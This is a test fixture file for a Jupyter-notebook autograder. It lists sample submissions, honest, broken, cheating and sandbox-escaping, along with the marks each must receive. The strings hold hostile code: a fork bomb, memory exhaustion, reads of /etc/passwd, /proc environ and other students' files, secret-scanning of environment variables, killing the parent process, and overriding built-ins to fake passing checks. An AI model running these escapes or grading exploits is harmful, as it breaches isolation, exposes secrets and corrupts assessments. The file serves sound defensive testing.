// Submissions of the sample assignment, honest and hostile, with the marks that they must get.
import { sourceOf } from "../../notebooks/notebook_file.ts";
import { MEMORY } from "./memory.ts";
import { answered, SAMPLE, sampleNotebook, sampleRelease, SECRET } from "./sample.ts";
import {
  ALL,
  attempts,
  type Case,
  cellOf,
  edit,
  notebook,
  put,
  RIGHT_MEAN,
  trying,
  without,
  WRONG_MEAN,
  WRONG_SLOPE,
} from "./submission.ts";

export type { Case, Targets } from "./submission.ts";

const HONEST: Case[] = [
  notebook("solutions", "the instructor's own answers", () => sampleNotebook(), ALL),
  notebook("release", "handed in as it was handed out", () => sampleRelease(), [0, 0, 0]),
  notebook(
    "wrong-slope",
    "a gradient without its factor 2, and a step that uses it",
    () => answered({ slope: "function slope(x: number): number { return x; }" }),
    [0, 30, 0],
  ),
  notebook(
    "wrong-mean",
    "a sum in place of a mean",
    () => answered({ mean: "function meanOf(values: number[]) { return values.reduce((a, b) => a + b); }" }),
    [40, 0, 30],
  ),
  notebook(
    "only-hidden",
    "right for positive numbers only: a hidden test sees it",
    () => answered({ slope: "function slope(x: number): number { return 2 * Math.abs(x); }" }),
    [0, 30, 30],
  ),
  notebook(
    "warns",
    "console.warn and console.error in right answers",
    () =>
      answered({
        slope: 'console.warn("careful");\nfunction slope(x: number) { console.error("x", x); return 2 * x; }',
        mean:
          'function meanOf(v: number[]) { console.warn("mean"); return v.reduce((a, b) => a + b) / v.length; }',
      }),
    ALL,
  ),
  notebook(
    "syntax-error",
    "a bracket is missing in one answer",
    () => answered({ mean: "function meanOf(values: number[] { return 3; }" }),
    [40, 0, 30],
  ),
  notebook(
    "deleted",
    "a check and an exercise are gone",
    () => edit((n) => (without("check-step")(n), without("mean")(n))),
    [40, 0, 30],
    { note: /“mean” was deleted.*“check-step” was deleted/ },
  ),
  notebook(
    "more-cells",
    "cells of the student's own, and a helper in one of them",
    () =>
      edit((n) => {
        n.cells.splice(2, 0, {
          cell_type: "code",
          id: "mine",
          source: "const twice = (x: number) => 2 * x;",
          metadata: {},
          outputs: [],
          ...{ execution_count: null },
        });
      }, { slope: "function slope(x: number): number { return twice(x); }" }),
    ALL,
  ),
  notebook(
    "no-ids",
    "saved by a program that drops the ids of cells",
    () =>
      edit((n) => {
        for (const cell of n.cells) delete cell.id;
        n.nbformat_minor = 4;
      }),
    ALL,
  ),
  notebook(
    "no-names",
    "saved by a program that drops ids and metadata; the answers are the student's own",
    () =>
      edit((n) => {
        for (const cell of n.cells) {
          delete cell.id;
          cell.metadata = {};
        }
      }, { slope: "const slope = (x: number) => x + x;" }),
    ALL,
    { note: /^the cells have lost their ids and metadata; “slope”, “mean” and “step” were found by/ },
  ),
  notebook(
    "no-names-unlike",
    "the same, with an answer that looks like nothing that was asked for",
    () =>
      edit((n) => {
        for (const cell of n.cells) {
          delete cell.id;
          cell.metadata = {};
        }
      }, { mean: "var m = 17\nm" }),
    [40, 0, 30],
    { note: /“mean” could not be found in the file.*ask for the file again/ },
  ),
  {
    name: "byte-order-mark",
    says: "UTF-8 with a byte order mark",
    write: (folder) => put(folder, "\uFEFF" + JSON.stringify(answered())),
    marks: ALL,
  },
  {
    name: "utf-16",
    says: "saved in UTF-16, with Windows line ends in all cells",
    async write(folder) {
      const text = JSON.stringify(edit((n) => {
        for (const cell of n.cells) cell.source = sourceOf(cell).replaceAll("\n", "\r\n");
      }));
      const units = Uint16Array.from("\uFEFF" + text, (letter) => letter.charCodeAt(0));
      await Deno.writeFile(`${folder}/${SAMPLE}.ipynb`, new Uint8Array(units.buffer));
    },
    marks: ALL,
    note: /^the file was saved in UTF-16, and read as that; Windows line ends, nothing else differs$/,
  },
  notebook(
    "exercise-twice",
    "the same exercise twice, the first attempt wrong",
    () =>
      edit((n) => {
        const { metadata } = cellOf(n, "mean");
        n.cells.push({ ...cellOf(n, "mean"), id: "copy", metadata: { ...metadata }, source: RIGHT_MEAN });
      }, { mean: WRONG_MEAN }),
    [40, 0, 30],
    { note: /^“mean” is there twice; the first counts$/ },
  ),
  {
    name: "renamed",
    says: "the notebook has another name",
    write: (folder) => put(folder, answered(), "My homework (2)"),
    marks: ALL,
    note: /found under the name My homework/,
  },
  {
    name: "twice",
    says: "two notebooks, neither with the right name",
    write: async (folder) => {
      await put(folder, answered(), "first");
      await put(folder, answered(), "second");
    },
    marks: undefined,
    note: /2 notebooks could be it/,
  },
];

const BROKEN: Case[] = [
  {
    name: "no-json",
    says: "not JSON",
    write: (folder) => put(folder, "{"),
    marks: undefined,
    note: /is no notebook/,
  },
  {
    name: "deep-json",
    says: "nested a million times",
    write: (folder) => put(folder, "[".repeat(1e6)),
    marks: undefined,
    note: /nested too deeply|is no notebook/,
  },
  {
    name: "gigabyte",
    says: "a file of 1 GB",
    write: async (folder) => {
      await put(folder, "{");
      await Deno.truncate(`${folder}/${SAMPLE}.ipynb`, 1e9);
    },
    marks: undefined,
    note: /1000 MB/,
  },
  {
    name: "link",
    says: "a link to another student's notebook",
    write: (folder, { other }) => Deno.symlink(`${other}/${SAMPLE}.ipynb`, `${folder}/${SAMPLE}.ipynb`),
    marks: undefined,
    note: /is a link/,
  },
  {
    name: "empty",
    says: "an empty folder",
    write: async () => {},
    marks: undefined,
    note: /there is no sample.ipynb/,
  },
  {
    name: "another",
    says: "a notebook of another course, under the right name",
    write: (folder) => put(folder, { cells: [], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
    marks: [0, 0, 0],
    note: /^nothing of this assignment is in the file: ask for the right one$/,
  },
];

const ENDLESS: Case[] = [
  notebook(
    "loops",
    "an endless loop in an answer",
    () => answered({ mean: "function meanOf(values: number[]): number { while (true); }" }),
    [40, 0, 30],
    { note: /check-mean: did not end/ },
  ),
  notebook(
    "waits",
    "awaits what never comes, in a cell",
    () => answered({ mean: `await new Promise(() => {});\n${RIGHT_MEAN}` }),
    ALL,
    { note: /cell mean: did not end/ },
  ),
  notebook(
    "memory",
    "a list that grows for ever",
    () => answered({ mean: "const all = [];\nwhile (true) all.push(new Array(1e6).fill(1.5));" }),
    [40, 0, 30],
    { note: /cell mean: / },
  ),
  notebook(
    "buffers",
    "memory beside V8's",
    () =>
      answered({
        mean: "const all = [];\nwhile (true) {\n  all.push(new Uint8Array(1e8).fill(1));\n" +
          "  await new Promise((done) => setTimeout(done, 1));\n}",
      }),
    [40, 0, 30],
    { note: /cell mean: stopped: it took more than \d+ MB/ },
  ),
  notebook(
    "prints",
    "100 MB of output",
    () => answered({ mean: `for (let i = 0; i < 1000; i++) console.log("x".repeat(1e5));\n${RIGHT_MEAN}` }),
    ALL,
    { note: /cell mean: printed more/ },
  ),
  notebook(
    "exits",
    "Deno.exit(0) in a cell",
    () => answered({ mean: `Deno.exit(0);` }),
    [40, 0, 30],
    { note: /cell mean: .*ended/ },
  ),
  notebook(
    "exits-late",
    "an answer that ends the program when a check calls it",
    () => answered({ mean: "function meanOf(values: number[]): number { Deno.exit(0); }" }),
    [40, 0, 30],
    { note: /cell check-mean: .*ended/ },
  ),
  notebook(
    "fork-bomb",
    "starts programs without end, then threads",
    () =>
      answered({
        mean: attempts({
          program: 'while (true) new Deno.Command(Deno.execPath(), { args: ["eval", "1"] }).spawn();',
        }) +
          "\nconst code = URL.createObjectURL(new Blob(['while (true);'], { type: 'text/javascript' }));\n" +
          "while (true) {\n  new Worker(code, { type: 'module' });\n  await new Promise((done) => setTimeout(done, 1));\n}",
      }),
    [40, 0, 30],
    { never: /GOT/, refused: ["program"] },
  ),
];

const CHEATS: Case[] = [
  notebook(
    "edited",
    "checks, points and marks of cells changed",
    () =>
      edit((n) => {
        cellOf(n, "check-slope").source = "1;";
        cellOf(n, "check-mean").metadata!.nbgrader!.points = 1000;
        cellOf(n, "check-step").metadata!.nbgrader!.grade = false;
        cellOf(n, "nudge").source = "const nudge = () => 17;";
      }, { slope: WRONG_SLOPE }),
    [0, 30, 0],
    { note: /“nudge” and “check-slope” were edited.*points of “check-mean”.*marks of “check-step”/ },
  ),
  notebook(
    "replaces-check",
    "declares a check of its own that is always content",
    () => answered({ slope: `${WRONG_SLOPE}\nconst check = async () => {}, checkThat = check;` }),
    [0, 0, 0],
    { note: /check was replaced/ },
  ),
  notebook(
    "replaces-helper",
    "declares the helper of a check anew, to agree with a wrong answer",
    () => answered({ slope: `${WRONG_SLOPE}\nconst nudge = () => 17;` }),
    [0, 30, 0],
    { note: /nudge was replaced/ },
  ),
  notebook(
    "reads-check",
    "takes the expected value from the check's own names",
    () =>
      answered({
        mean: "function meanOf() { return wanted; }",
        step: "const step = () => { try { return (0, eval)('stepped') ?? half(1); } catch { return 17; } };",
      }),
    [40, 0, 0],
    { note: /^“mean” uses wanted, which only a check makes, and cannot reach it$/ },
  ),
  notebook(
    "lists-answers",
    "gives the numbers that the visible checks expect, one after the other, by a getter",
    () =>
      answered({
        slope:
          "const known = [6];\nfunction slope(): number { return { get next() { return known.shift() ?? 0; } }.next; }",
      }),
    [0, 30, 0],
  ),
  notebook(
    "patches-language",
    "changes Math, Array, Promise and Object for everybody",
    () =>
      answered({
        slope: `${WRONG_SLOPE}\n` + attempts({
          abs: "Math.abs = () => 0;",
          math: "globalThis.Math = { ...Math, abs: () => 0 } as Math;",
          isNaN: "Number.isNaN = () => true;",
          every: "Array.prototype.some = () => false;",
          inherited: "Object.prototype.tolerance = 1e9;",
          then: "Promise.prototype.then = function () { return this; };",
          error: "globalThis.Error = class {};",
          join: "Array.prototype.join = () => '';",
        }),
      }),
    [0, 30, 0],
    { never: /GOT/ },
  ),
  notebook(
    "hides-language",
    "declares a Math of its own, which the library would see",
    () => answered({ slope: `const Math = { abs: () => 0 };\n${WRONG_SLOPE}` }),
    [0, 30, 0],
  ),
  notebook(
    "patches-library",
    "changes the library's classes",
    () =>
      answered({
        slope: `import { CheckError, Tensor } from "backprop";\n${WRONG_SLOPE}\n` + attempts({
          data: "Object.defineProperty(Tensor.prototype, 'shape', { get: () => [] });",
          method: "Tensor.prototype.allClose = () => true;",
          thrown: "CheckError.prototype.toString = () => '';",
        }),
      }),
    [0, 30, 0],
    { never: /GOT/ },
  ),
  notebook(
    "own-arithmetic",
    "exchanges the loops that compute for the library, for it and for the check alike",
    () =>
      answered({
        step: `const { kernels, setKernels } = await import("file:///project/lib/kernels/current.ts");\n` +
          attempts({
            exchange: "setKernels({ ...kernels, matmul: () => {}, name: 'reference' });",
            change: "kernels.matmul = () => {};",
          }) + "\nfunction step() { return 17; }",
      }),
    [40, 30, 0],
    { never: /GOT/ },
  ),
  notebook(
    "patches-kernel",
    "changes how the kernel waits, so that what fails is not noticed",
    () =>
      answered({
        slope: `${WRONG_SLOPE}\n` + attempts({
          cell: "globalThis.__backprop_cell = async () => {};",
          listen: "Object.defineProperty(globalThis, '__backprop_listen', { value: () => {} });",
          evaluate: "globalThis.eval = () => async () => [undefined];",
          stop: "globalThis[Symbol.for('backprop.stop')] = undefined;",
        }),
      }),
    [0, 30, 0],
    { never: /GOT/ },
  ),
  notebook(
    "fakes-result",
    "sends a number as the result of a check, which nbgrader would take for points",
    () =>
      answered({
        slope: `function slope(x: number): number {\n` +
          `  for (const type of ["execute_result", "display_data"]) {\n` +
          `    Deno.jupyter.broadcast(type, { execution_count: 1, data: { "text/plain": "40" }, metadata: {} });\n` +
          `  }\n  return 17;\n}`,
      }),
    [0, 30, 0],
  ),
  notebook(
    "restarts",
    "ends the kernel, and hopes for a new one without guards",
    () => answered({ slope: "Deno.exit(0);", mean: `Math.abs = () => 0;\n${WRONG_MEAN}` }),
    [0, 0, 0],
    { note: /cell slope: / },
  ),
  notebook(
    "knows-guard",
    "asks the grader's own guard for help",
    () =>
      answered({
        slope: `${WRONG_SLOPE}\n` + attempts({
          guard:
            `(await import("file:///project/tools/grading/inside/guard.ts")).register("", { nudge: () => 17 });`,
        }),
      }),
    [0, 30, 0],
    { never: /GOT/ },
  ),
];

const ESCAPES: Case[] = [
  trying(
    "network",
    "calls out: a page, a port of this machine, a name, a socket of the kernel",
    ({ port }) => ({
      fetch: 'await fetch("http://example.com");',
      port: `await Deno.connect({ hostname: "127.0.0.1", port: ${port} });`,
      name: 'await Deno.resolveDns("example.com", "A");',
      listen: "Deno.listen({ port: 0 });",
      node: `const { connect } = await import("node:net");\n` +
        `  await new Promise((done, failed) => connect(${port}, "127.0.0.1").on("connect", done).on("error", failed));`,
      module: 'await import("https://example.com/x.ts");',
      permission:
        'if ((await Deno.permissions.request({ name: "net" })).state !== "granted") throw new Error();',
    }),
  ),
  trying(
    "reads",
    "looks for other submissions, the gradebook, hidden tests, secrets of the machine",
    ({ other, gradebook, source }) => ({
      other: `Deno.readTextFileSync("${other}/${SAMPLE}.ipynb");`,
      gradebook: `Deno.readFileSync("${gradebook}");`,
      source: `Deno.readTextFileSync("${source}");`,
      passwd: 'Deno.readTextFileSync("/etc/passwd");',
      neighbours: 'const up = [...Deno.readDirSync("..")].map((e) => e.name).join();\n' +
        "  if (!/ipynb|submitted|student/.test(up)) throw new Error(up);",
      home: 'Deno.readDirSync("/root").next(); Deno.readDirSync("/home").next();',
      temporary: 'if ([...Deno.readDirSync("/tmp")].length < 2) throw new Error("empty");',
      environment:
        "if (Object.keys(Deno.env.toObject()).some((n) => /JPY|JUPYTER|TOKEN|KEY|USER/.test(n))) {}\n" +
        '  else throw new Error("clean");',
      processes:
        "if ([...Deno.readDirSync('/proc')].filter((e) => /^\\d+$/.test(e.name)).length < 8) throw new Error();",
    }),
  ),
  trying(
    "writes",
    "writes outside of its folder, into the library, over the sockets; fills the disk",
    ({ outside }) => ({
      outside: `Deno.writeTextFileSync("${outside}/written.txt", "x");`,
      library: 'Deno.writeTextFileSync("/project/lib/mod.ts", "x");',
      root: 'Deno.writeTextFileSync("/x", "x");',
      device: 'Deno.writeTextFileSync("/dev/shm/x", "x");',
      home: 'Deno.mkdirSync("/root/x");',
      fill: "for (let i = 0; i < 100; i++) Deno.writeFileSync(`f${i}`, new Uint8Array(1e6));",
    }),
    { before: `Deno.writeTextFileSync("mine.txt", "allowed");` },
  ),
  trying("native", "loads native code, kills its parent", () => ({
    native: 'Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });',
    kill: 'Deno.kill(Deno.ppid, "SIGKILL");',
    node: '(await import("node:process")).default.kill(Deno.ppid, "SIGKILL");',
    memory: 'Deno.writeFileSync("/proc/self/mem", new Uint8Array(1));',
    first: 'Deno.readTextFileSync("/proc/1/environ");',
    worker:
      "const code = `postMessage((() => { try { new Deno.Command(Deno.execPath(), {}).outputSync();` +\n" +
      '    ` return "ran"; } catch (e) { return e.name; } })())`;\n' +
      '  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));\n' +
      '  const said = await new Promise((done) => new Worker(url, { type: "module" }).onmessage = done) as any;\n' +
      '  if (said.data !== "ran") throw new Error(said.data);',
  })),
  notebook(
    "spies",
    "waits for the hidden test to run, and prints its text",
    () =>
      answered({
        slope: [
          "const seen: string[] = [];",
          "try {",
          '  const { Session } = await import("node:inspector");',
          "  const session = new Session();",
          "  session.connect();",
          '  session.on("Debugger.scriptParsed", ({ params }) => {',
          '    session.post("Debugger.getScriptSource", { scriptId: params.scriptId }, (_: unknown, r: any) => {',
          "      if (r) seen.push(String(r.scriptSource));",
          "    });",
          "  });",
          '  session.post("Debugger.enable");',
          "} catch (error) { console.log(String(error)); }",
          "function slope(x: number): number { return 2 * x; }",
        ].join("\n"),
        mean: `console.log(seen.length, seen.join("\\n"));\n${RIGHT_MEAN}`,
      }),
    ALL,
    { never: new RegExp(SECRET) },
  ),
];

/** All of them. */
export const CASES: Case[] = [...HONEST, ...BROKEN, ...ENDLESS, ...CHEATS, ...ESCAPES, ...MEMORY];

const QUICK = new Set([
  ..."solutions release wrong-slope only-hidden warns syntax-error deleted renamed".split(" "),
  ..."no-json gigabyte link loops buffers prints exits edited replaces-check replaces-helper".split(" "),
  ..."patches-language fakes-result network reads writes native spies heap core loaders".split(" "),
  ..."no-names byte-order-mark utf-16 exercise-twice guesses-words prints-inputs returns-inputs swaps-helpers"
    .split(" "),
]);

/** Those that every change is tested with. */
export const QUICK_CASES: Case[] = CASES.filter(({ name }) => QUICK.has(name));
